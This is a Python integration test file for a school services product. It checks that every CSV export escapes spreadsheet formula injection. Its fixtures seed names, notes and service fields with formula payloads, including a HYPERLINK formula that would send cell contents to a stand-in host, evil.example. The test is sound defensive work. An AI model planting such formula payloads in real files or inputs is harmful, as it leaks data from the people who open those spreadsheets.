"""No cell of any CSV the product writes can run as a spreadsheet formula (issue 16, OWASP).

One school is made whose every text field a user or an import can set holds a formula
(``=HYPERLINK(...)``, ``+1+1``, ``-2+3``, ``@SUM(A1)``, a leading tab or carriage
return): its name, its students' and contacts' names and roster keys (a roster import),
a staff member's name, a service of its own (name, description, organisation, location,
address, eligibility), a share's note, a saved list's name, an inspection's and a
deletion request's notes. Then every CSV that reaches a person is fetched through the
API as that person would: the tenant's export (zip), a student's inspection records
(zip), the deletion-request record, analytics' report CSVs; and the directory's HSDS
export. Not one cell may start a formula unescaped; each formula is found escaped
(``'=…``), so the fields did reach the CSVs; numbers stay numbers (``-89.65``).

Before ``weintervene.spreadsheets``, the export and inspection zips wrote every cell as
it was, the deletion CSV missed the tab and carriage return, and the HSDS export too.
"""
from __future__ import annotations

import base64
import csv
import io
import time
import uuid
import zipfile

import pytest
from nameko.standalone.rpc import ClusterRpcClient

from tests.support.referrals_system import service_input
from tests.support.world import PASSWORD, build_world
from weintervene import spreadsheets

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
FORMULAS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def unsafe_cells(name: str, text: str) -> list[tuple[str, int, str]]:
    return [(name, n, cell) for n, row in enumerate(csv.reader(io.StringIO(text, newline="")))
            for cell in row if spreadsheets.unsafe_cell(cell)]


def cells(text: str) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row}


def zip_csvs(content: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {n: archive.read(n).decode("utf-8") for n in archive.namelist() if n.endswith(".csv")}


def roster_cell(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


@pytest.fixture(scope="module")
def school(system):
    """A school whose every settable text is a formula, with its admin signed in."""
    world = build_world(system)
    suffix = world.suffix
    operator = world.http("operator")
    r = operator.post(system.url("/api/v1/tenants"), json={"kind": "school", "name": f"{HYPERLINK} {suffix}"}, timeout=30)
    assert r.status_code == 201, r.text
    tenant_id = r.json()["id"]
    admin_email = f"formula-admin.{suffix}@world.example"
    with ClusterRpcClient(uri=system.settings.amqp_uri, timeout=60) as rpc:
        rpc.identity.bootstrap_user({"email": admin_email, "display_name": f"+1+1 {suffix}", "role": "school_admin",
                                     "tenant_id": tenant_id}, PASSWORD)
        term = rpc.directory.categories()[0]["children"][0]["id"]
    admin = system.login(admin_email, PASSWORD)
    admin_id = admin.get(system.url("/api/v1/me"), timeout=30).json()["user_id"]

    header = "student_key,first_name,last_name,grade,contact_name,contact_relationship,contact_email,contact_authorised\n"
    rows = []
    for n, (first, last) in enumerate([(FORMULAS[0], FORMULAS[1]), (FORMULAS[2], FORMULAS[3]), (FORMULAS[4], FORMULAS[5])]):
        contact = FORMULAS[(n + 3) % len(FORMULAS)]
        rows.append(",".join(roster_cell(v) for v in (
            f"{FORMULAS[n]}{n}", f"{first}", f"{last}", "7", f"{contact} Parent", "mother",
            f"parent{n}.{suffix}@family.example", "yes")))
    roster = header + "\n".join(rows) + "\n"
    r = admin.post(system.url("/api/v1/rosters/import"), data=roster.encode(), headers={"Content-Type": "text/csv"},
                   timeout=60)
    assert r.status_code == 200, r.text
    students = admin.get(system.url("/api/v1/students?per_page=50"), timeout=30).json()["items"]
    assert len(students) == 3, students
    # The one named HYPERLINK first: it gets the share and the inspection; the last is opted out.
    students.sort(key=lambda s: s["first_name"] != HYPERLINK)
    details = [admin.get(system.url(f"/api/v1/students/{s['id']}"), timeout=30).json() for s in students]
    assert details[0]["first_name"] == HYPERLINK, details[0]

    r = admin.post(system.url("/api/v1/users"), json={"email": f"formula-teacher.{suffix}@world.example",
                                                      "display_name": "@SUM(A1) Teacher", "role": "teacher",
                                                      "tenant_id": tenant_id}, timeout=30)
    assert r.status_code == 201, r.text
    teacher_id = r.json()["id"]

    service = service_input("=1+1 Tutoring", term, address="-2+3 Main St")
    service.update(description="\t=1 helps families.", organization_name="@SUM(A1) Org",
                   eligibility_description="\r=1 families")
    service["location"]["name"] = "+1+1 Hall"
    r = admin.post(system.url("/api/v1/directory/services"), json=service, timeout=30)
    assert r.status_code == 201, r.text
    service_id = r.json()["id"]

    first = details[0]
    r = admin.post(system.url("/api/v1/referrals"), json={
        "student_id": first["id"], "contact_ids": [first["contacts"][0]["id"]], "service_ids": [service_id],
        "channel": "print", "note": "-2+3 note"}, timeout=30)
    assert r.status_code == 201, r.text
    r = admin.post(system.url("/api/v1/lists"), json={"name": "+1+1 list", "shared": True, "service_ids": [service_id]},
                   timeout=30)
    assert r.status_code == 201, r.text
    r = admin.post(system.url("/api/v1/inspection-requests"),
                   json={"student_id": first["id"], "kind": "inspection", "note": "@SUM(A1) asked"}, timeout=30)
    assert r.status_code == 201, r.text
    inspection_id = r.json()["id"]
    return {"world": world, "admin": admin, "admin_id": admin_id, "tenant_id": tenant_id, "students": details,
            "teacher_id": teacher_id, "service_id": service_id, "inspection_id": inspection_id, "term": term}


def _assert_safe_and_reached(csvs: dict[str, str], expected_escaped: list[str]):
    found = [bad for name, text in csvs.items() for bad in unsafe_cells(name, text)]
    assert not found, f"cells that would run as formulas: {found[:10]}"
    every_cell = set().union(*(cells(text) for text in csvs.values()))
    for formula in expected_escaped:
        assert any(cell.startswith("'" + formula) for cell in every_cell), f"{formula!r} did not reach the CSVs"


def test_tenant_export_escapes_every_formula(system, school):
    admin = school["admin"]
    r = admin.post(system.url("/api/v1/exports"), json={"tenant_id": school["tenant_id"]}, timeout=120)
    assert r.status_code == 201, r.text
    r = admin.get(system.url(f"/api/v1/exports/{r.json()['id']}"), timeout=300)
    assert r.status_code == 200, r.text
    csvs = zip_csvs(r.content)
    assert any(name.startswith("identity/") for name in csvs) and any(name.startswith("referrals/") for name in csvs)
    # Tenant and staff names, student and contact names, roster keys, notes, list names, a service's texts.
    _assert_safe_and_reached(csvs, FORMULAS + ["=1+1 Tutoring", "-2+3 note", "+1+1 list", "@SUM(A1) Teacher"])


def test_inspection_records_escape_every_formula(system, school):
    r = school["admin"].get(system.url(f"/api/v1/inspection-requests/{school['inspection_id']}/records"), timeout=120)
    assert r.status_code == 200, r.text
    _assert_safe_and_reached(zip_csvs(r.content), [FORMULAS[0], FORMULAS[1], "-2+3 note"])


def test_deletion_request_record_escapes_every_formula(system, school):
    admin = school["admin"]
    verification = {"method": "in_person_photo_id", "verified_by": school["admin_id"]}
    for student, note in ((school["students"][1], "\t=1 parent asked"), (school["students"][2], "\r=1 parent asked")):
        r = admin.post(system.url("/api/v1/deletion-requests"), json={
            "scope": "student", "subject_id": student["id"], "reason": "parent_opt_out", "note": note,
            "verification": verification}, timeout=60)
        assert r.status_code == 202, r.text
    r = admin.post(system.url("/api/v1/deletion-requests"), json={
        "scope": "user", "subject_id": school["teacher_id"], "reason": "account_closed", "note": "+1+1 left"}, timeout=60)
    assert r.status_code == 202, r.text
    r = admin.get(system.url("/api/v1/deletion-requests?format=csv"), timeout=60)
    assert r.status_code == 200 and r.headers["Content-Type"].startswith("text/csv"), r.text
    _assert_safe_and_reached({"deletion-requests.csv": r.text}, ["\t=1 parent asked", "\r=1 parent asked", "+1+1 left"])


def test_analytics_report_csvs_escape_every_formula(system, school):
    admin = school["admin"]
    deadline = time.monotonic() + 60
    while True:  # the share reaches analytics through the outbox and the broker
        r = admin.get(system.url("/api/v1/analytics/top-services?format=csv&period=school_year"), timeout=30)
        assert r.status_code == 200, r.text
        if "Tutoring" in r.text or time.monotonic() > deadline:
            break
        time.sleep(1)
    csvs = {"top-services.csv": r.text}
    for report in ("top-categories", "channels", "trends", "unmet-need"):
        r = admin.get(system.url(f"/api/v1/analytics/{report}?format=csv&period=school_year"), timeout=30)
        assert r.status_code == 200, r.text
        csvs[f"{report}.csv"] = r.text
    _assert_safe_and_reached(csvs, ["=1+1 Tutoring"])


def test_hsds_export_escapes_text_keeps_numbers_and_reads_back(system, school, tmp_path):
    """The directory's HSDS datapackage (``weintervene export-directory``): text escaped,
    coordinates still numbers, and our own importer reads the texts back as they were."""
    from sqlalchemy.orm import Session

    from services.directory import layouts
    from services.directory.exporter import export_csv
    from weintervene.db import make_engine

    service = service_input("=1+1 Tutoring", school["term"], address="-2+3 Main St")
    service.update(description="\t=1 helps families.", organization_name="@SUM(A1) Org",
                   eligibility_description="\r=1 families")
    service["location"].update(name="+1+1 Hall", latitude=38.9, longitude=-77.03)
    r = school["world"].http("operator").post(system.url("/api/v1/directory/services"), json=service, timeout=30)
    assert r.status_code == 201, r.text  # the global directory, which the HSDS export holds
    engine = make_engine(system.settings.database_url("directory"))
    try:
        with Session(engine) as session:
            export_csv(session, tmp_path, service_ids=[r.json()["id"]])
    finally:
        engine.dispose()
    csvs = {p.name: p.read_text(encoding="utf-8") for p in tmp_path.glob("*.csv")}
    _assert_safe_and_reached(csvs, ["=1+1 Tutoring", "\t=1 helps", "@SUM(A1) Org", "+1+1 Hall", "-2+3 Main St"])
    [location] = list(csv.DictReader(io.StringIO(csvs["locations.csv"])))
    assert (location["latitude"], location["longitude"]) == ("38.9", "-77.03")  # a number, not "'-77.03"

    _, rows, _ = layouts.read(tmp_path, "roundtrip")
    names = {row.table: row.values.get("name") for row in rows if row.table in ("service", "organization", "location")}
    assert names == {"service": "=1+1 Tutoring", "organization": "@SUM(A1) Org", "location": "+1+1 Hall"}
